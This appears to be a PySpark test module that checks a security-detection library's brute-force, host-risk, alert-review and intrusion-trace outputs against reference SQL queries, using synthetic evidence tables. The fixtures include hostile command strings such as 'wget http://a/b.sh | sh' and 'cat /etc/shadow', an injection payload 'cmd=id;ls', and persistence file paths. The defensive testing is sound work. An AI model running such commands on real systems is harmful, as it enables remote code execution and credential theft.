"""The three questions end to end on the driver tables."""
from __future__ import annotations

from pyspark.sql import functions as F

from ..operators import rollups as A, rules as R
from ..plans.alert_review import review_alerts
from ..plans.host_risk import assess, brute_force_incidents, connect_items, exec_items, host_risk
from ..plans.trace import trace_intrusion
from ..operators.joins import JoinSpec, Key
from .base import DAY, EV, HOUR, evidence, table
from .joins import GW, T0, gw_alerts, gw_requests, host_rows
from .windows import W01_SQL


def q1(spark, d):
    return brute_force_incidents(spark, d)


Q1_SQL = f"""WITH w01 AS ({W01_SQL.replace("'src-' || (user_id % 5)", "'10.0.0.' || (user_id % 5)").replace("'u' || (k % 4)", "k::VARCHAR")}),
z AS (SELECT victim_host AS host, src_ip, count(*) AS event_count, min(severity) AS severity, count(*) FILTER (severity IN ('P0', 'P1')) AS alert_count, min(first_us) AS first_us, max(first_us) AS last_us FROM w01 GROUP BY 1, 2),
y AS (SELECT *, CASE WHEN alert_count > 0 THEN 'ssh_bruteforce' ELSE 'ssh_bruteforce' END AS r,
 CASE WHEN alert_count > 0 THEN 'DEFAULT-ALERT' ELSE 'DEFAULT-OBSERVE' END AS hint FROM z),
g AS (SELECT victim_host AS host, src_ip, CASE WHEN severity IN ('P0', 'P1') THEN 'DEFAULT-ALERT' ELSE 'DEFAULT-OBSERVE' END AS hint, min(severity) AS severity, count(*) AS event_count, min(first_us) AS first_us, max(first_us) AS last_us FROM w01 GROUP BY 1, 2, 3)
SELECT 'incident-' || substring(sha256(host || '|ssh|' || hint || '||||' || src_ip), 1, 10) AS incident_id, host, 'ssh' AS risk_module, src_ip, severity, hint = 'DEFAULT-ALERT' AS alert_required, event_count, CASE WHEN hint = 'DEFAULT-ALERT' THEN event_count ELSE 0 END AS alert_count, first_us, last_us
FROM g ORDER BY alert_required DESC, severity, alert_count DESC, event_count DESC, incident_id LIMIT 20"""


def _host_tables(spark, d):
    e = evidence(spark, d).select(F.col("event_id").alias("evidence_id"), "us", "host", F.array("host").alias("hosts"), F.lit(None).cast("string").alias("listener"), "event_type", "k", "user_id")
    ex = e.where("event_type = 'click'").select("*", F.expr("CASE k % 6 WHEN 0 THEN 'wget http://a/b.sh | sh' WHEN 1 THEN 'cat /etc/shadow' WHEN 2 THEN 'ls /home' WHEN 3 THEN 'curl --version' WHEN 4 THEN 'id' ELSE 'true' END").alias("command"),
                                                F.lit("java").alias("listener_process"), F.expr("IF(user_id % 3 = 0, 443, 5000)").alias("listener_port"), F.lit("x").alias("comm"), F.lit("/opt/x").alias("exe"), F.lit("/").alias("cwd"))
    co = e.where("event_type = 'purchase'").select("*", F.expr("IF(k % 2 = 0, '10.0.0.5', '8.8.8.8')").alias("dst_ip"), F.expr("IF(k % 5 = 0, 4444, 9999)").alias("dst_port"), F.lit("sshd").alias("listener_process"), F.lit(22).alias("listener_port"))
    return ex, co, e.where("event_type = 'signup'"), e.where("event_type = 'error'")


def q2(spark, d):
    ex, co, fi, pe = _host_tables(spark, d)
    items = assess([exec_items(ex, co, fi, pe, window_sec=3 * 3600, persistence_sec=6 * 3600), connect_items(co, ex, window_sec=3 * 3600)],
                   whitelist=[{"id": "w-ls", "action": "suppress", "scope": {"command_regex": "^ls "}}], rule_map={"sensitive_file_read": ["T1003"], "download_and_execute": ["T1105", "T1059"]}, tactics={"T1003": "TA0006"})
    return items.select("evidence_ref", "risk_module", "severity", "confidence", F.array_join("matched_rules", ",").alias("rules"), "policy_rule_id", "alert_required", "alert_suppressed", F.array_join("technique_ids", ",").alias("techniques"))


Q2_SQL = f"""WITH {EV}, ex AS (SELECT event_id, us, host, k % 6 AS c, user_id % 3 = 0 AS webport FROM ev WHERE event_type = 'click'),
nr AS (SELECT x.event_id, coalesce(bool_or(o.event_type = 'purchase' AND abs(o.us - x.us) <= {3 * HOUR}::BIGINT), false) AS con, coalesce(bool_or((o.event_type = 'signup' AND abs(o.us - x.us) <= {3 * HOUR}::BIGINT) OR (o.event_type = 'error' AND abs(o.us - x.us) <= {6 * HOUR}::BIGINT)), false) AS fil FROM ex x JOIN ev o ON o.host = x.host GROUP BY 1),
r0 AS (SELECT ex.*, con, fil, CASE c WHEN 0 THEN 0 WHEN 1 THEN 1 WHEN 2 THEN 2 WHEN 4 THEN 1 ELSE 3 END AS r, CASE c WHEN 0 THEN 'download_and_execute' WHEN 1 THEN 'sensitive_file_read' WHEN 2 THEN '' WHEN 3 THEN 'noise_command' WHEN 4 THEN 'internal_recon' ELSE '' END AS rules FROM ex JOIN nr USING (event_id)),
r1 AS (SELECT *, CASE WHEN webport AND r > 0 THEN r - 1 ELSE r END AS a FROM r0), r2 AS (SELECT *, CASE WHEN (con OR fil) AND a > 0 THEN a - 1 ELSE a END AS rank FROM r1),
xi AS (SELECT event_id::VARCHAR AS evidence_ref, 'exec' AS risk_module, rank, round(least(0.95, CASE rank WHEN 0 THEN 0.85 WHEN 1 THEN 0.78 ELSE 0.58 END + CASE WHEN con OR fil THEN 0.06 ELSE 0 END), 2) AS confidence, rules, c = 2 AS wl FROM r2 WHERE rank <= 2),
co AS (SELECT event_id, us, host, k % 2 = 0 AS priv, k % 5 = 0 AS susp FROM ev WHERE event_type = 'purchase'),
cn AS (SELECT x.event_id, coalesce(bool_or(o.k % 6 IN (0, 3) AND abs(o.us - x.us) <= {3 * HOUR}::BIGINT), false) AS dl, coalesce(bool_or(abs(o.us - x.us) <= {3 * HOUR}::BIGINT), false) AS near FROM co x LEFT JOIN ev o ON o.host = x.host AND o.event_type = 'click' GROUP BY 1),
c1 AS (SELECT co.*, dl, near, CASE WHEN susp OR dl THEN 1 WHEN NOT priv THEN 2 ELSE 3 END AS rank, concat_ws(',', CASE WHEN susp THEN 'suspicious_port_connect' END, CASE WHEN dl THEN 'exec_correlated_egress' END, CASE WHEN NOT susp AND NOT dl AND NOT priv THEN 'non_whitelist_egress' END) AS rules FROM co JOIN cn USING (event_id)),
ci AS (SELECT event_id::VARCHAR, 'connect', rank, round(CASE rank WHEN 1 THEN 0.75 ELSE 0.55 END + CASE WHEN near THEN 0.06 ELSE 0 END, 2), rules, false FROM c1 WHERE rank <= 2), al AS (SELECT * FROM xi UNION ALL SELECT * FROM ci)
SELECT evidence_ref, risk_module, CASE WHEN wl THEN 'P3' ELSE 'P' || rank END AS severity, CASE WHEN wl THEN least(confidence, 0.2) ELSE confidence END::DOUBLE AS confidence, CASE WHEN wl THEN 'whitelist:w-ls' ELSE rules END AS rules, CASE WHEN rank <= 1 THEN 'DEFAULT-ALERT' ELSE 'DEFAULT-OBSERVE' END AS policy_rule_id,
 rank <= 1 AND NOT wl AS alert_required, wl AS alert_suppressed, CASE rules WHEN 'sensitive_file_read' THEN 'T1003' WHEN 'download_and_execute' THEN 'T1105,T1059' ELSE '' END AS techniques FROM al"""


PATHS = ("/root/.ssh/authorized_keys", "/etc/cron.d/x", "/etc/ld.so.preload", "/lib/systemd/system/a.service", "/home/u/.bashrc", "/tmp/x")
MESSAGES = ("sudo: u : user NOT in the sudoers file", "auditd exiting", "modprobe x", "Out of memory: Kill process", "Accepted key", "useradd x")


def _pick(values, c="k"):
    return F.element_at(F.array(*[F.lit(v) for v in values]), (F.col(c) % len(values) + 1).cast("int"))


def q2_packs(spark, d):
    """Persistence and syslog rows judged by the library's own packs, next to DNS, as one list of items."""
    e = evidence(spark, d).select(F.col("event_id").alias("evidence_id"), "us", "host", "event_type", "k", "user_id")
    pe = e.where("event_type = 'signup'").select("evidence_id", "us", "host", _pick(PATHS).alias("path"), F.lit("created").alias("event_type"))
    sy = e.where("event_type = 'view'").select("evidence_id", "us", "host", _pick(MESSAGES).alias("message"), F.expr("IF(user_id % 3 = 0, 'ssh_login_success', 'other')").alias("event_type"), F.expr("IF(k % 2 = 0, 'root', 'u')").alias("user"))
    items = host_risk({"host_persistence": pe, "syslog_risk_alert": sy})
    return items.select("evidence_ref", "risk_module", "host", "severity", "confidence", "verdict", "summary", F.array_join("matched_rules", ",").alias("rules"), F.array_join("risk_tags", ",").alias("tags"), "policy_rule_id", "alert_required")


Q2P_SQL = f"""WITH {EV}, p AS (SELECT event_id, 'persistence' AS m, host, k % 6 AS c, ['{"', '".join(PATHS)}'][k % 6 + 1] AS summary,
  ['P0', 'P1', 'P0', 'P1', 'P2', 'P3'][k % 6 + 1] AS severity, ['remote_key_added', 'schedule_changed', 'preload_changed', 'service_changed', 'login_script_changed', ''][k % 6 + 1] AS rules,
  ['persistence,credential_access', 'persistence', 'persistence,defense_evasion', 'persistence', 'persistence', ''][k % 6 + 1] AS tags FROM ev WHERE event_type = 'signup'),
y0 AS (SELECT event_id, host, k % 6 AS c, user_id % 3 = 0 AND k % 2 = 0 AS root, ['{"', '".join(MESSAGES)}'][k % 6 + 1] AS summary FROM ev WHERE event_type = 'view'),
y AS (SELECT event_id, 'syslog' AS m, host, c, summary, CASE WHEN c = 1 THEN 'P0' WHEN root THEN 'P1' WHEN c IN (0, 2) THEN 'P2' ELSE 'P3' END AS severity,
  concat_ws(',', CASE WHEN root THEN 'root_login' END, CASE c WHEN 0 THEN 'sudo_refused' WHEN 1 THEN 'audit_stopped' WHEN 2 THEN 'module_loaded' WHEN 3 THEN 'process_killed_for_memory' END) AS rules,
  concat_ws(',', CASE WHEN root THEN 'initial_access' END, CASE c WHEN 0 THEN 'privilege_escalation' WHEN 1 THEN 'defense_evasion' WHEN 2 THEN 'persistence' WHEN 3 THEN 'noise' END) AS tags FROM y0)
SELECT event_id::VARCHAR AS evidence_ref, m AS risk_module, host, severity, CASE severity WHEN 'P0' THEN 0.86 WHEN 'P1' THEN 0.75 ELSE 0.55 END::DOUBLE AS confidence, CASE severity WHEN 'P0' THEN 'confirmed_attack' ELSE 'suspicious' END AS verdict,
  summary, rules, tags, CASE WHEN severity < 'P2' THEN 'DEFAULT-ALERT' ELSE 'DEFAULT-OBSERVE' END AS policy_rule_id, severity < 'P2' AS alert_required FROM (SELECT * FROM p UNION ALL SELECT * FROM y) WHERE severity <= 'P2'"""


def q3(spark, d):
    al = gw_alerts(spark, d).drop("attack_success").withColumns({"payload": F.expr("CASE alert_id % 3 WHEN 0 THEN 'cmd=id;ls' WHEN 1 THEN 'hello' ELSE '' END"), "rule_name": F.lit("generic"), "rule_id": F.col("method"), "url": F.col("path_key")})
    al = al.withColumn("text", F.col("payload"))
    prof = table(spark, d, "nation").where("n_nationkey < 20").select(F.concat(F.lit("ip"), F.col("n_nationkey").cast("string")).alias("ip"), F.lit("global").alias("scope"), F.lit(False).alias("mobile"), F.lit(False).alias("proxy"), F.lit("").alias("description"), (F.col("n_nationkey") % 2 == 0).alias("verified"))
    res, _ = review_alerts(al, gw_requests(spark, d), host_rows(spark, d), prof, {"rce": {"patterns": ["cmd="], "hints": []}}, {}, T0, T0 + 20 * DAY, hint_minutes=240, tight_sec=3600, context_min=120, before_min=60, after_min=120, miss=dict(patterns=["cmd="], minutes=240, tight_sec=5400))
    return res.select("alert_id", "attack_type", "alert_verdict", "attack_outcome", "coverage", "hint_level", "confidence", "recommended_action", "block_reason")


Q3_SQL = f"""WITH {GW}, hr AS (SELECT event_id AS ref, us AS h_us, user_id % 15 AS h FROM ev WHERE (event_type = 'click' AND k % 5 = 0) OR (event_type = 'purchase' AND k % 3 = 0)),
sx AS (SELECT DISTINCT alert_id FROM pr JOIN hr ON hr.h = pr.tgt AND h_us BETWEEN pr.us - 3600000000 AND pr.us + 7200000000 WHERE status IN (200, 302) AND gap <= 7200000000),
cv AS (SELECT alert_id, bool_or(gap <= {HOUR}::BIGINT) AS tight FROM pr WHERE same_method AND us BETWEEN {T0} AND {T0 + 20 * DAY} GROUP BY 1),
hn AS (SELECT alert_id, bool_or(act < 3 OR bytes >= 500) AS lk FROM pr JOIN (SELECT alert_id, ip AS aip FROM al) USING (alert_id) WHERE (aip IS NULL OR aip = ip) AND gap <= 14400000000 AND status = 200 AND (up IS NULL OR up = 200) AND bytes >= 64 AND hit = 'cmd=' GROUP BY 1),
b AS (SELECT a.*, alert_id % 3 AS m, sx.alert_id IS NOT NULL AS suc, CASE WHEN cv.tight THEN 'matched' WHEN cv.tight IS NOT NULL THEN 'outside_tight_window' ELSE 'no_matching_request' END AS coverage, hn.lk FROM al a LEFT JOIN sx USING (alert_id) LEFT JOIN cv USING (alert_id) LEFT JOIN hn USING (alert_id)),
v AS (SELECT *, CASE WHEN m = 0 OR suc THEN 'confirmed_attack' ELSE 'suspicious' END AS verdict, CASE m WHEN 0 THEN 'valid' WHEN 1 THEN 'unclear' ELSE 'insufficient' END AS val FROM b),
o AS (SELECT *, CASE WHEN suc THEN 'success_confirmed' WHEN blocked AND verdict = 'confirmed_attack' THEN 'blocked' ELSE 'attempt_failed' END AS outcome, CASE WHEN suc THEN NULL WHEN lk THEN 'likely' WHEN lk IS NOT NULL THEN 'possible' END AS hint, (SELECT count(*) FROM al x WHERE x.ip = v.ip AND x.method = v.method) AS rep FROM v),
f AS (SELECT *, CASE WHEN verdict = 'confirmed_attack' AND val = 'valid' THEN 0.88 WHEN verdict = 'confirmed_attack' THEN 0.72 ELSE 0.58 END AS base, CASE WHEN outcome = 'success_confirmed' THEN 'escalate_investigate' WHEN verdict = 'confirmed_attack' AND greatest(rep, 1) >= 3 THEN 'block_ip' WHEN verdict = 'confirmed_attack' AND outcome = 'blocked' AND hint = 'likely' THEN 'manual_review_30m'
  WHEN verdict = 'confirmed_attack' AND outcome = 'blocked' THEN 'log_and_monitor' WHEN verdict = 'suspicious' AND hint = 'possible' THEN 'log_and_monitor' WHEN verdict = 'suspicious' THEN 'manual_review_30m' WHEN hint = 'likely' THEN 'manual_review_30m' ELSE 'log_and_monitor' END AS act2 FROM o)
SELECT alert_id, CASE WHEN m = 0 THEN 'rce' ELSE 'unknown' END AS attack_type, verdict AS alert_verdict, outcome AS attack_outcome, coverage, hint AS hint_level, round(least(0.95, CASE outcome WHEN 'success_confirmed' THEN least(0.95, base + 0.08) WHEN 'blocked' THEN least(0.88, base + 0.02) ELSE base END), 2)::DOUBLE AS confidence,
 CASE WHEN act2 = 'block_ip' AND NOT (ip < 20 AND ip % 2 = 0) THEN 'manual_review_30m' ELSE act2 END AS recommended_action, CASE WHEN act2 = 'block_ip' THEN CASE WHEN ip % 2 = 0 THEN 'no_shared_exit_indicator' ELSE 'ip_profile_not_verified' END END AS block_reason FROM f"""


def q4(spark, d):
    e = evidence(spark, d).select(F.col("event_id").alias("evidence_id"), "us", F.concat(F.lit("h"), (F.col("user_id") % 30).cast("string")).alias("host"), "event_type", "k", "value")
    pick = lambda t: e.where(F.col("event_type") == t)
    tables = {"web_access_log": pick("signup"), "host_exec": pick("click"), "host_connect": pick("purchase"), "host_file_op": pick("view"), "host_persistence": pick("error").where("k % 2 = 0")}
    lg = pick("error").where("k % 2 = 1").select(F.col("host").alias("src"), F.concat(F.lit("h"), (F.col("k") % 30).cast("string")).alias("dst"), "us", "evidence_id", F.expr("IF(k % 5 = 0, 'accepted', 'failed')").alias("result"))
    specs = {"web_to_exec": JoinSpec("web_to_exec", "web_access_log", "host_exec", [Key("host", "host")], before_sec=3600, after_sec=6 * 3600)}
    t = trace_intrusion(tables, specs, ["web_to_exec"], {"web_to_exec": "execution"}, lg, None, [(F.col("value") < 20).cast("int")], T0, max_hops=4, connect_sec=3600, file_sec=3600, persistence_sec=3600)
    return t.verdict


Q4_SQL = f"""WITH RECURSIVE {EV}, e AS (SELECT event_id, us, 'h' || (user_id % 30) AS host, event_type, k, value FROM ev), we AS (SELECT * FROM e WHERE event_type = 'signup'), xe AS (SELECT * FROM e WHERE event_type = 'click'), ce AS (SELECT * FROM e WHERE event_type = 'purchase'),
ed AS (SELECT DISTINCT host AS src, 'h' || (k % 30) AS dst FROM e WHERE event_type = 'error' AND k % 2 = 1 AND k % 5 = 0 AND host <> 'h' || (k % 30)), s AS (SELECT DISTINCT host FROM we),
w(host, hop) AS (SELECT host, 0 FROM s UNION SELECT dst, hop + 1 FROM w JOIN ed ON src = host WHERE hop < 4), b AS (SELECT host, min(hop) AS hop FROM w GROUP BY 1), ge AS (SELECT DISTINCT src, dst FROM ed JOIN b ON b.host = src WHERE hop < 4),
mx AS (SELECT x.event_id, x.host, x.us // 1000000 AS sec, list(w.event_id) AS ws FROM we w JOIN xe x ON x.host = w.host AND x.us BETWEEN w.us - {HOUR}::BIGINT AND w.us + {6 * HOUR}::BIGINT GROUP BY 1, 2, 3),
xc AS (SELECT x.event_id, x.host, round(least(0.95, 0.85 + 0.08 * count(c.event_id)), 2) AS c FROM xe x LEFT JOIN ce c ON c.host = x.host AND abs(c.us - x.us) <= {HOUR}::BIGINT GROUP BY 1, 2),
st AS (SELECT host, max(greatest(0.85, c)) AS c FROM (SELECT mx.host, mx.sec, mx.event_id, xc.c FROM mx JOIN xc USING (event_id)) GROUP BY host, sec UNION ALL SELECT host, c FROM xc WHERE event_id NOT IN (SELECT event_id FROM mx)),
cf AS (SELECT host, round(CAST(least(0.95, sum(CAST(c AS DECIMAL(10, 6))) / count(*)) AS DECIMAL(18, 8)), 2)::DOUBLE AS c FROM st GROUP BY 1),
h AS (SELECT src AS host FROM ge UNION SELECT dst FROM ge UNION SELECT host FROM s UNION SELECT host FROM xe),
f AS (SELECT host, host IN (SELECT host FROM s) AS i, host IN (SELECT host FROM st) AS x, host IN (SELECT src FROM ge) AS l, host IN (SELECT host FROM xe) AS g FROM h)
SELECT f.host, CASE WHEN NOT i AND NOT x THEN 'insufficient_evidence' WHEN i AND NOT x AND NOT g THEN 'scanning_or_attempt_only' WHEN i AND x AND l THEN 'confirmed_intrusion_chain' WHEN i AND x THEN 'initial_access_only' ELSE 'likely_intrusion_chain' END AS verdict, coalesce(c, 0.4)::DOUBLE AS confidence FROM f LEFT JOIN cf ON cf.host = f.host"""

CHECKS = {"Q1_brute_force_incidents": (q1, Q1_SQL), "Q2_host_risk_items": (q2, Q2_SQL), "Q2_rule_packs": (q2_packs, Q2P_SQL), "Q3_alert_review": (q3, Q3_SQL), "Q4_intrusion_trace": (q4, Q4_SQL)}
